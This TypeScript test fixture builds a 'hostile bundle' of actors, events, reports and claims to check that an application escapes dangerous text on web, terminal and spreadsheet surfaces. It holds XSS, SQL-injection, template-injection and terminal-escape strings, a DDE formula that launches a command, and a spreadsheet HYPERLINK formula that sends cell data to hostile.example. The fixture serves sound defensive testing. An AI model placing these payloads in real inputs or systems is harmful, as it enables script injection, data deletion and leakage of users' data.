/** Stands in what is restricted or may not travel, and in nothing else of the bundle. */
export const PLANTED = "PLANTED-BY-THE-HOSTILE-BUNDLE";

/** What a surface must never hand on as it is: to a page, a terminal or a spreadsheet. */
export const HOSTILE_WORDS = {
  script: "<script>document.title='hostile'</script>",
  image: `<img src=x onerror="document.title='hostile'">`,
  closing: "</script></textarea></title>]]>-->",
  bidi: "\u202Eevil\u2066reversed\u2069\u200F",
  terminal: "\u001B[31mred\u001B]0;hostile\u0007\u009B2J\r",
  formula: `=HYPERLINK("http://hostile.example/?"&A1,"click")`,
  otherFormula: "@SUM(1+1)*cmd|' /C calc'!A0",
  sql: "'; DROP TABLE claim; --",
  template: "${7*7}{{7*7}}<%= 7*7 %>",
  separators: "one\u2028two\u2029three",
} as const;

const words = HOSTILE_WORDS;
const LONG = `Long ${"ñame ".repeat(16_000)}end`;
const quoted = `The channel said that ${words.script} at least four guards were hurt ${words.bidi} ${words.terminal} ${words.formula}.`;
const TEXT = `${quoted}\nThe guards said that two guards were hurt. ${words.separators}\n${"x ".repeat(200)}${PLANTED}\n`;
const harmless = { sensitivity: "restricted", note: PLANTED };

/** Each hostile text as the name of an actor, beside one of 100 kB and one that is restricted. */
const actors = [
  ...Object.entries(words).map(([name, value]) => ({
    id: `act:hostile-${name.toLowerCase()}`,
    type: "social_channel",
    names: [value.replaceAll(/[\p{Cc}\p{Zl}\p{Zp}]/gu, " ")],
    note: value,
  })),
  { id: "act:hostile-long", type: "ngo", names: [LONG] },
  { id: "act:hostile-guards", type: "armed_group", names: ["Guards"] },
  { id: "act:hostile-hidden", type: "person", names: [PLANTED], ...harmless },
];

const claim = {
  event: "evt:hostile",
  topic: "injured",
  of: ["act:hostile-guards"],
  act: "assert",
  report: "rep:hostile",
};
const claims = [
  {
    ...claim,
    id: "clm:hostile-channel",
    by: "act:hostile-script",
    value: "at least four",
    quote: quoted.slice(0, -1),
    note: Object.values(words).join(" "),
  },
  { ...claim, id: "clm:hostile-long", by: "act:hostile-long", value: "two", quote: "two guards were hurt" },
  {
    ...claim,
    id: "clm:hostile-formula",
    by: "act:hostile-formula",
    value: "two",
    quote: "said that two guards were hurt",
  },
  {
    ...claim,
    id: "clm:hostile-hidden",
    by: "act:hostile-hidden",
    value: "two",
    quote: "guards were hurt.",
    ...harmless,
  },
];

/**
 * One bundle for the tests of every surface: it is imported without an error, and everything in it wants to be more than
 * text.
 *
 * Shape: path inside a folder → content, for `temporaryFolder`.
 */
export const HOSTILE_BUNDLE: Readonly<Record<string, string>> = {
  "hostile/bundle.yaml": "bundle: hostile\nlang: en\n",
  "hostile/actors.json": JSON.stringify(actors),
  "hostile/events.json": JSON.stringify([
    {
      id: "evt:hostile",
      type: "fire",
      label: `Fire ${words.image} ${words.closing} ${words.bidi}`,
      anchor: { when: "2026-01-05", where: [], basis: "editorial" },
    },
    {
      id: "evt:hostile-wide",
      type: "fire",
      label: `Fire ${"x".repeat(480)}`,
      anchor: { when: "2026-01-05", where: [], basis: "editorial" },
    },
    {
      id: "evt:hostile-hidden",
      type: "fire",
      label: PLANTED,
      anchor: { when: "2026-01-05", where: [], basis: "editorial" },
      sensitivity: "restricted",
    },
  ]),
  "hostile/reports.json": JSON.stringify([
    {
      id: "rep:hostile",
      type: "social_post",
      title: `${words.script} ${words.formula}`,
      publisher: "act:hostile-image",
      publisherBasis: "text",
      language: "en",
      text: "reports/hostile.txt",
      licence: { status: "all_rights_reserved", textStorage: "local_only", note: words.image },
    },
  ]),
  "hostile/reports/hostile.txt": TEXT,
  "hostile/claims.json": JSON.stringify(claims),
};

/** What no store takes: content of an `actors.json` → the code that refuses it. */
export const REFUSED: readonly (readonly [content: string, code: string])[] = [
  [String.raw`[{ "id": "act:nul", "type": "ngo", "names": ["N\u0000ul"] }]`, "text.nul"],
  [String.raw`[{ "id": "act:escape", "type": "ngo", "names": ["E\u001b[31mscape"] }]`, "text.control-character"],
  [String.raw`[{ "id": "act:lone", "type": "ngo", "names": ["L\ud800one"] }]`, "text.not-well-formed"],
];
